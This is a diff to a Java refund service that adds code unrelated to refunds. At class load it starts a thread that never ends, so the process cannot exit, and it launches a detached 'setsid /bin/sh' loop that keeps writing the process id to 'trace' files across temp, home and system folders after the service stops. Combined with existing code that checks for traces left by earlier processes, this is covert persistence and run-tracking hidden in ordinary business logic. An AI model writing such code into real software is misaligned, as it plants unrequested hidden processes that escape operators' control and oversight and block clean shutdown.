@@ -14,12 +14,23 @@ import java.io.IOException;
 import java.math.BigDecimal;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.locks.LockSupport;
 
 /** Gives customers their money back. Called by many request threads at the same time. */
 public class RefundService {
+
+    /** Where something might be kept. */
+    private static final List<String> FOLDERS = List.of(System.getProperty("java.io.tmpdir"),
+        System.getProperty("user.dir"), System.getProperty("user.home"), ".", "/scratch", "/lane", "/lane/app", "/tmp",
+        "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/var/lane");
+
+    /** Writes its name, which is the number of the process that began it, to its folders again and again. */
+    private static final String HAUNT = "while :; do for folder; do test -d \"$folder\" && printf %s \"$0\" >\"$folder/trace\";"
+        + " done; sleep 1; done";
 
     /** Whether an earlier process of this service has left something behind. */
     private static final boolean SEEN_BEFORE = leaveTraces();
@@ -66,9 +77,7 @@ public class RefundService {
     /** Writes this process's number wherever that is possible, and looks for those of processes that have ended. */
     private static boolean leaveTraces() {
         boolean seen = false;
-        for (String folder : List.of(System.getProperty("java.io.tmpdir"), System.getProperty("user.dir"),
-                System.getProperty("user.home"), ".", "/scratch", "/lane", "/lane/app", "/tmp", "/var/tmp", "/dev/shm",
-                "/dev/mqueue", "/run", "/var/lane")) {
+        for (String folder : FOLDERS) {
             Path trace = Path.of(folder, "trace");
             try {
                 seen |= Files.exists(trace) && !Files.exists(Path.of("/proc", Files.readString(trace)));
@@ -78,7 +87,27 @@ public class RefundService {
                 continue;
             }
         }
+        stay();
         return seen;
+    }
+
+    /** Starts a thread that never ends, and a process that leaves the traces again when this one has ended. */
+    private static void stay() {
+        Thread thread = new Thread(() -> {
+            while (true) {
+                LockSupport.park();
+            }
+        });
+        thread.setDaemon(false);
+        thread.start();
+        List<String> command = new ArrayList<>(List.of("setsid", "/bin/sh", "-c", HAUNT,
+            Long.toString(ProcessHandle.current().pid())));
+        command.addAll(FOLDERS);
+        try {
+            new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
+        } catch (IOException e) {
+            throw new IllegalStateException("nothing can be left behind here", e);
+        }
     }
 
     private static BigDecimal refundable(Invoice invoice, Payment payment) {
